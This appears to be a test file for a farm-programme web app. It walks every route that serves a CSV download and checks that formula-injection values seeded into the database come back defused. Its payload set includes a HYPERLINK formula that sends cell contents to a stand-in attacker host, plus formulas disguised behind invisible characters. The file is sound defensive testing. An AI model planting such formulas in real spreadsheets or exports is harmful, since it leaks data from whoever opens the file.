// Every CSV download of Veld defuses formula cells (issue 28; decision 0115). The routes come from
// the route tree itself (tests/support/route-tree.ts): every loader is called as an admin with
// every scope and as an organisation's owner, on data where every name a download writes is a
// formula (organisation, farm, field, herd, person, job posting and applicant, a submission's
// decision), also behind a no-break space and other characters a spreadsheet passes over. Every
// answer whose Content-Type is text/csv is read with csv-parse: no cell may be live, and each
// must carry at least one of those names, defused. A CSV route added tomorrow is covered the day
// it exists; the downloads that exist today must all be found, so a broken walk cannot pass.
// The summary files are made by the background step first, then downloaded like the rest.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { db } from "~/db/client.server";
import {
  cropJourneys,
  herds,
  implementationPlans,
  jobApplications,
  jobPostings,
  memberships,
  submissions,
  summaryExports,
  userBaselines,
  users,
} from "~/db/schema";
import { currentSeason } from "~/services/fields/seasons";
import { ADMIN_SCOPES } from "~/shared/scopes";
import { SUMMARY_EXPORT_KINDS } from "~/services/summaries/rules";
import { requestSummary, runSummaryStep } from "~/services/summaries/summaries.server";
import { mintAccessToken, trustTestTokens } from "../support/api-tokens";
import { insertTestProfile } from "../support/model-fixtures";
import { insertPlanningOrganisation } from "../support/practice-fixtures";
import { callRoute } from "../support/route-call";
import { routeNodes, TEST_USER_ID, type RouteNode } from "../support/route-tree";
import { signInCookie } from "../support/sessions";
import { isLive } from "../support/spreadsheet";

trustTestTokens();

const EVERY_SCOPE = [...ADMIN_SCOPES];

/** Names a spreadsheet would run: each written with a quote before it, or the test fails. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const HOSTILE = {
  organisation: FORMULA,
  farm: `\u00a0${FORMULA}`,
  field: "\u00a0=1+1",
  otherField: "\u2003\u200b+1+1",
  herd: "=Cows",
  otherHerd: "\u00a0-Goats",
  name: "@SUM(1,1)",
  surname: `\u00a0${FORMULA}`,
  notes: "\t=1+1",
  posting: FORMULA,
  firstName: "\uff1dHYPERLINK(1)",
  applicantSurname: `\u00a0${FORMULA}`,
  motivation: "-1+1",
  decision: "\r=1+1",
};
const HOSTILE_NAMES = new Set(Object.values(HOSTILE));

/** The CSV downloads there are today: the walk must reach every one (and may find more). */
const KNOWN_CSV_ROUTES = [
  "routes/admin.jobApplications_.export",
  "routes/admin.baseline_.export",
  "routes/admin.journey.fields_.export",
  "routes/profile.calc_.samples_.template[.csv]",
  "routes/profile.journey.practice_data.livestock_.template",
  "userView/routes/profile.calc_.samples_.template[.csv]",
  "userView/routes/profile.journey.practice_data.livestock_.template",
  "routes/api.v2.admin.summaryFiles.$exportId.download",
  "routes/files.$fileId",
];

interface Caller {
  who: string;
  cookie: () => Promise<string>;
  bearer: string;
}

interface CsvAnswer {
  route: string;
  url: string;
  who: string;
  records: string[][];
}

const found: CsvAnswer[] = [];
const season = currentSeason();
/** The ids a route's params may take, by param name; the tree's placeholder otherwise. */
const known: Record<string, string[]> = {};

async function buildHostileProgramme() {
  const { organisationId, fieldIds } = await insertPlanningOrganisation(
    HOSTILE.organisation,
    season,
    [
      { farm: HOSTILE.farm, name: HOSTILE.field },
      { farm: HOSTILE.farm, name: HOSTILE.otherField },
    ],
    { province: "FS" },
  );
  await db()
    .insert(implementationPlans)
    .values({ organisationId, season, submittedAt: new Date() });
  // The owner is the person /admin/userView pages of the route tree look at (?userId=…).
  await db().insert(users).values({
    id: TEST_USER_ID,
    subject: "csv|owner",
    email: "owner@csv-downloads.example",
    name: HOSTILE.name,
    surname: HOSTILE.surname,
  });
  await insertTestProfile(TEST_USER_ID);
  await db().insert(memberships).values({ userId: TEST_USER_ID, organisationId, role: "OWNER" });
  await db()
    .insert(userBaselines)
    .values({ userId: TEST_USER_ID, farmingSinceYear: 1998, notes: HOSTILE.notes });
  const [herd] = await db()
    .insert(herds)
    .values([
      { organisationId, name: HOSTILE.herd, type: "beef" },
      { organisationId, name: HOSTILE.otherHerd, type: "goats" },
    ])
    .returning();
  const fieldId = fieldIds[HOSTILE.field]!;
  await db()
    .insert(cropJourneys)
    .values({
      fieldId,
      season,
      organisationId,
      landUse: "cropland",
      crops: [{ id: "a", crop: "Maize", cover: false }],
    });
  await db().insert(submissions).values({
    organisationId,
    season,
    status: "SUBMITTED",
    decisionMessage: HOSTILE.decision,
  });
  const [posting] = await db()
    .insert(jobPostings)
    .values({
      title: HOSTILE.posting,
      description: "Soil sampling.",
      category: "samplingFieldWork",
      location: "FS",
      salary: "R20 000",
      employmentType: "fullTime",
    })
    .returning();
  await db().insert(jobApplications).values({
    jobId: posting!.id,
    firstName: HOSTILE.firstName,
    surname: HOSTILE.applicantSurname,
    email: "applicant@csv-downloads.example",
    phoneNumber: "+27 821234567",
    gender: "female",
    race: "african",
    highestQualification: "BSc",
    salary: "20000",
    employmentStatus: "fullTime",
    motivation: HOSTILE.motivation,
  });

  // The summary files: asked for, then made by the background step.
  const actor = { userId: null, label: "csv-downloads test" };
  for (const kind of SUMMARY_EXPORT_KINDS) await requestSummary(actor, EVERY_SCOPE, kind);
  for (let result = await runSummaryStep(); result; result = await runSummaryStep()) {
    expect(result.status).toBe("ready");
  }
  const made = await db().select().from(summaryExports);
  const exportIds = made.map((row) => row.id);
  const fileIds = made.flatMap((row) => (row.fileId ? [row.fileId] : []));
  expect(fileIds).toHaveLength(SUMMARY_EXPORT_KINDS.length);

  Object.assign(known, {
    id: [organisationId],
    companyId: [organisationId],
    organisationId: [organisationId],
    fieldId: [fieldId],
    herdId: [herd!.id],
    userId: [TEST_USER_ID],
    jobId: [posting!.id],
    exportId: exportIds,
    fileId: fileIds,
  });
}

/** Every way to fill the route's params with the ids above (the tree's placeholder for others). */
function paramSets(node: RouteNode): Record<string, string>[] {
  let sets: Record<string, string>[] = [{ ...node.params }];
  for (const name of Object.keys(node.params)) {
    const values = known[name];
    if (!values?.length) continue;
    sets = sets.flatMap((set) => values.map((value) => ({ ...set, [name]: value })));
  }
  return sets;
}

function urlOf(node: RouteNode, params: Record<string, string>) {
  let url = node.url;
  for (const [name, value] of Object.entries(node.params)) url = url.replace(value, params[name]!);
  return `http://localhost:3000${url}`;
}

const isApi = (node: RouteNode) => node.id.startsWith("routes/api.v2");

async function csvOf(response: Response): Promise<string[][] | null> {
  const type = response.headers.get("Content-Type") ?? "";
  if (response.status !== 200 || !/^text\/csv\b/i.test(type)) {
    await response.body?.cancel();
    return null;
  }
  // Decoded by hand: Response.text() would drop the byte-order mark.
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
  return parse(text, { bom: true, relax_column_count: true }) as string[][];
}

async function walk(callers: Caller[]) {
  for (const node of routeNodes.filter((n) => n.module.loader)) {
    for (const caller of callers) {
      // A session of its own for each route: one route's loader must not end another's.
      const cookie = await caller.cookie();
      for (const params of paramSets(node)) {
        const headers = new Headers(
          isApi(node) ? { Authorization: `Bearer ${caller.bearer}` } : { Cookie: cookie },
        );
        const url = urlOf(node, params);
        let answer: unknown;
        try {
          answer = await callRoute(node.module.loader!, new Request(url, { headers }), params);
        } catch {
          continue; // Not this suite's concern (the bad-input suite answers for errors).
        }
        if (!(answer instanceof Response)) continue;
        const records = await csvOf(answer);
        if (records) found.push({ route: node.id, url, who: caller.who, records });
      }
    }
  }
}

beforeAll(async () => {
  await buildHostileProgramme();
  const admin: Caller = {
    who: "an admin with every scope",
    cookie: () => signInCookie("csv|admin", "admin@csv-downloads.example", EVERY_SCOPE),
    bearer: await mintAccessToken("csv|admin", {
      permissions: EVERY_SCOPE,
      email: "admin@csv-downloads.example",
    }),
  };
  const owner: Caller = {
    who: "the organisation's owner",
    cookie: () => signInCookie("csv|owner", "owner@csv-downloads.example"),
    bearer: await mintAccessToken("csv|owner", { email: "owner@csv-downloads.example" }),
  };
  // Quiet: pages that render nothing useful for these callers may log.
  const quiet = vi.spyOn(console, "error").mockImplementation(() => {});
  try {
    await walk([admin, owner]);
  } finally {
    quiet.mockRestore();
  }
}, 900_000);

afterAll(() => vi.restoreAllMocks());

describe("every CSV download (found by walking the route tree)", () => {
  it("reaches every CSV download there is today", () => {
    const routes = new Set(found.map((answer) => answer.route));
    for (const route of KNOWN_CSV_ROUTES) expect(routes, route).toContain(route);
  });

  it("writes no cell a spreadsheet would run", () => {
    for (const answer of found) {
      answer.records.forEach((record, row) =>
        record.forEach((cell, column) => {
          const where = `${answer.url} for ${answer.who}, row ${row + 1}, column ${column + 1}`;
          expect(isLive(cell), `${where}: ${JSON.stringify(cell)}`).toBe(false);
        }),
      );
    }
  });

  it("carries the formula names, each with a quote before it", () => {
    const defused = new Set<string>();
    for (const answer of found) {
      const cells = answer.records.flat();
      const names = cells.filter((cell) => HOSTILE_NAMES.has(cell.slice(1)) && cell[0] === "'");
      expect(names.length, `${answer.url} for ${answer.who}`).toBeGreaterThan(0);
      for (const cell of names) defused.add(cell.slice(1));
    }
    // Every name reached some download: the no-break space and the rest were all tried.
    expect([...HOSTILE_NAMES].filter((name) => !defused.has(name))).toEqual([]);
  });
});
